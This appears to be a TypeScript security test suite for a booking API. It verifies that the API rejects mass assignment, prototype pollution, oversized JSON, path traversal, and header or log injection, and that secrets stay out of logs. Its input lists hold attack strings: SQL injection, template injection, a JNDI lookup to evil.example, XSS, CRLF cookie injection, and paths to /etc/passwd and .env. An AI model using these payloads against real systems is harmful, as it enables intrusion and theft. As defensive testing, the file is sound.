import assert from 'node:assert/strict'
import { Writable } from 'node:stream'
import { after, before, test } from 'node:test'
import { pino } from 'pino'
import { loggedError } from '../../src/infrastructure/logger.ts'
import { openTestApp } from '../support/app.ts'
import { type ContractApp, dereferenced, heldToContract } from './support/contract.ts'
import { type CallableOperation, callableOperations } from './support/operations.ts'
import { expecting, openShop, type Shop } from './support/shop.ts'
import { readToken } from './support/tokens.ts'

let app: ContractApp
let shop: Shop
let operations: CallableOperation[]
/** Of someone who may do everything, so that nothing below is refused for want of a role. */
let token: string
const logged: string[] = []
before(async () => {
  const stream = new Writable({
    write(chunk, _encoding, done) {
      logged.push(String(chunk))
      done()
    },
  })
  const logger = pino({ level: 'trace', serializers: { err: (error) => loggedError(error) } }, stream)
  app = await heldToContract(await openTestApp(undefined, { logger }))
  shop = await openShop(app)
  const { id } = await app.register('provider')
  const roles = ['customer', 'provider', 'admin']
  await app.database.query('update auth.users set roles = $2 where id = $1', [id, roles])
  token = app.tokenFor({ id, roles })
  operations = callableOperations(await dereferenced(app.application.app.swagger()))
})
after(() => app[Symbol.asyncDispose]())

const withBody = () => operations.filter(({ operation }) => operation.requestBody)
const raw = ({ method, url }: Pick<CallableOperation, 'method' | 'url'>, payload: string) =>
  app.send({
    method,
    url,
    payload,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
  })

const FORBIDDEN = [
  'roles',
  'is_admin',
  'password_hash',
  'deactivated_at',
  'created_at',
  'version',
  'number',
  'sub',
]

interface Refused {
  readonly message?: string
  readonly errors?: readonly { readonly field: string; readonly code?: string; readonly message: string }[]
}

const UNKNOWN = 'is not a field of this request'

/** The fields that an answer says there are not: as problems do, or in the words of a front door. */
const unknownFields = ({ message = '', errors = [] }: Refused): ReadonlySet<string> =>
  new Set([
    ...errors
      .filter((error) => (error.code ?? 'unknown-field') === 'unknown-field' && error.message === UNKNOWN)
      .map(({ field }) => field.replace(/^\//, '')),
    ...message
      .split('; ')
      .filter((words) => words.endsWith(` ${UNKNOWN}`))
      .map((words) => words.slice(0, -UNKNOWN.length - 1)),
  ])

test('no route that takes a body takes a field that it does not name', async () => {
  assert(withBody().length >= 10)
  for (const operation of withBody()) {
    const body = Object.fromEntries(FORBIDDEN.map((name) => [name, true]))
    const answer = await raw(operation, JSON.stringify(body))
    assert.equal(answer.status, 400, `${operation.name} ${answer.text}`)
    const unknown = unknownFields(answer.json())
    // What admins are there to change.
    const meant = operation.name === 'PATCH /v1/users/{id}' ? ['roles'] : []
    for (const name of FORBIDDEN) {
      assert.equal(unknown.has(name), !meant.includes(name), `${operation.name} ${name}`)
    }
  }
})

test('nobody becomes an admin or takes a place at the door', async () => {
  const person = { email: 'eve@example.com', password: 'correct horse', first_name: 'E', last_name: 'V' }
  for (const role of ['admin', 'ADMIN', ['customer', 'admin'], { admin: true }, null]) {
    const answer = await app.ask('POST', '/v1/auth/register', { body: { ...person, role } })
    assert.equal(answer.status, 400)
  }
  const more = { role: 'customer', id: shop.provider.id, profile: { id: shop.provider.id } }
  assert.equal((await app.ask('POST', '/v1/auth/register', { body: { ...person, ...more } })).status, 400)
})

const POLLUTED = [
  '{"__proto__": {"polluted": true}}',
  '{"\\u005f_proto__": {"polluted": true}}',
  '{"constructor": {"prototype": {"polluted": true}}}',
  '{"metadata": {"__proto__": {"polluted": true}}}',
  '{"metadata": {"a": [{"constructor": {"prototype": {"polluted": true}}}]}}',
]

test('no body reaches the prototype of anything', async () => {
  for (const operation of withBody()) {
    for (const payload of POLLUTED) {
      assert.equal((await raw(operation, payload)).status, 400, `${operation.name} ${payload}`)
    }
  }
  for (const query of [
    '__proto__[polluted]=1',
    'constructor[prototype][polluted]=1',
    '__proto__=1',
    'toString=1',
  ]) {
    const { status } = await app.ask('GET', `/v1/services?${query}`)
    assert.equal(status, 400, query)
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined)
})

const nested = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth)

test('deep, huge and odd JSON is refused by every route that takes a body, in no time', async () => {
  const odd: Readonly<Record<string, [payload: string, status: number]>> = {
    'nested lists': [nested(30_000, '[', ']'), 400],
    'nested objects': [`{"metadata":${nested(8_000, '{"a":', '}').replace('}', '1}')}}`, 400],
    'a number beyond a double': ['{"metadata": {"a": 1e400}}', 400],
    'half a pair': ['{"notes": "\\ud800"}', 400],
    'a NUL byte': ['{"notes": "\\u0000"}', 400],
    'a list': ['[]', 400],
    'a text': ['"text"', 400],
    'too much': [`{"notes": "${'x'.repeat(70_000)}"}`, 413],
    'too many fields': [`{${Array.from({ length: 4_000 }, (_, n) => `"f${n}":1`).join(',')}}`, 400],
  }
  for (const operation of withBody()) {
    for (const [name, [payload, status]] of Object.entries(odd)) {
      const begun = performance.now()
      assert.equal((await raw(operation, payload)).status, status, `${operation.name} ${name}`)
      assert(performance.now() - begun < 2_000, `${operation.name} ${name}`)
    }
  }
})

const INJECTIONS = [
  "'; drop table bookings; --",
  "' or '1'='1",
  '1; select pg_sleep(10)',
  '$1',
  '%_%',
  '\\x27',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it pretends to be
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it pretends to be
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'a\r\nSet-Cookie: admin=1\r\n\r\n<html>',
  '\u001b[31m red {"level":60}\n{"level":60,"msg":"forged"}',
  '../../etc/passwd',
]

test('what looks like code is text: kept as it is, searched for as it is, and run by nobody', async () => {
  let day = 6
  for (const notes of INJECTIONS) {
    const made = await expecting(
      201,
      shop.book(`2026-01-${String(day++).padStart(2, '0')}T09:00:00Z`, { notes }),
    )
    assert.equal(made.notes, notes)
    const url = `/v1/bookings/${made.id}`
    assert.equal((await expecting(200, app.ask('GET', url, { token: shop.customer.token }))).notes, notes)
    const found = await app.ask('GET', `/v1/services?q=${encodeURIComponent(notes)}`)
    assert(found.status === 400 || found.json().data.length === 0, `${notes} ${found.text}`)
    for (const operation of operations.filter(({ url: path }) => path.includes('0000-00000000000a'))) {
      const path = operation.url.replace(/01900000-[-0-9a-f]+/g, encodeURIComponent(notes))
      const { status } = await app.send({
        method: operation.method,
        url: path,
        headers: { authorization: `Bearer ${token}` },
      })
      assert.equal(status, 400, `${operation.name} ${path}`)
    }
  }
})

test('what looks like a header goes into no header, and not into the log as a line', async () => {
  const headers = {
    'x-request-id': 'id\tSet-Cookie: a=1 {"level":60}',
    'user-agent': INJECTIONS.slice(0, -3)
      .join(' ')
      .replace(/[\r\n]/g, ' '),
  }
  const answer = await app.ask('GET', '/v1/services', { headers })
  assert.match(String(answer.headers['x-request-id']), /^[0-9a-f-]{36}$/)
  assert.equal(answer.headers['set-cookie'], undefined)
  for (const key of ['a\tb', 'ü', 'x'.repeat(256)]) {
    const refused = await app.ask('POST', '/v1/holds', {
      token,
      headers: { 'idempotency-key': key },
      body: { service_id: shop.serviceId, start: '2026-01-20T09:00:00Z' },
    })
    assert.equal(refused.status, 400)
  }
})

const PATHS = [
  '/v1/services/..%2f..%2fbookings',
  '/v1/services/%2e%2e/bookings',
  '/v1/services/%252e%252e%252fbookings',
  '/v1/..;/bookings',
  '/v1/bookings%00',
  '/v1/bookings/%00',
  '/v1//bookings',
  '//v1/bookings',
  '/v1/bookings/',
  '/V1/bookings',
  '/v1/bookings;jsessionid=1',
  '/v1/bookings%2f',
  '/v1%2fbookings',
  '/docs/static/..%2f..%2fpackage.json',
  '/docs/static/%2e%2e/%2e%2e/package.json',
  '/docs/static/%252e%252e%252fpackage.json',
  '/problems/..%2f..%2fetc%2fpasswd',
  '/.env',
  '/.git/config',
]

test('no spelling of a path gets around who may call it, or to a file', async () => {
  for (const url of PATHS) {
    const { status, text } = await app.send({ method: 'GET', url })
    assert([400, 401, 403, 404].includes(status), `${url} ${status}`)
    assert.doesNotMatch(text, /"dependencies"|root:|\[core\]/, url)
  }
})

test('nothing of all this was a fault, and the log has neither what is secret nor what was sent', async () => {
  await app.ask('POST', '/v1/auth/login', { body: { email: 'log@example.com', password: 'hunter2hunter2' } })
  await app.ask('GET', `/v1/services?token=${token}&q=1`)
  await app.ask('GET', '/v1/users?q=somebody@example.com&limit=1', { token })
  await app.ask('GET', '/v1/events?ticket=a-ticket-of-mine&topics=bookings')
  const lines = logged.flatMap((chunk) => chunk.split('\n')).filter((line) => line !== '')
  assert(lines.length > 200)
  for (const line of lines) {
    const { level, msg } = JSON.parse(line)
    assert(level < 50, line)
    assert.notEqual(msg, 'forged')
  }
  const reads = lines.map((line) => JSON.parse(line)).filter(({ url }) => url?.startsWith('/v1/users?q='))
  assert.deepEqual(
    reads.map(({ url, user }) => [url, user]),
    [['/v1/users?q=[redacted]&limit=1', readToken(token).claims.sub]],
  )
  const all = lines.join('\n')
  for (const secret of [
    'hunter2',
    'somebody@example.com',
    'correct horse',
    'argon2',
    '$argon',
    token,
    shop.customer.token,
    'a-ticket-of-mine',
  ]) {
    assert(!all.includes(secret), secret)
  }
  for (const sent of ['Set-Cookie: admin', 'password_hash', 'x'.repeat(300)])
    assert(!all.includes(sent), sent)
})
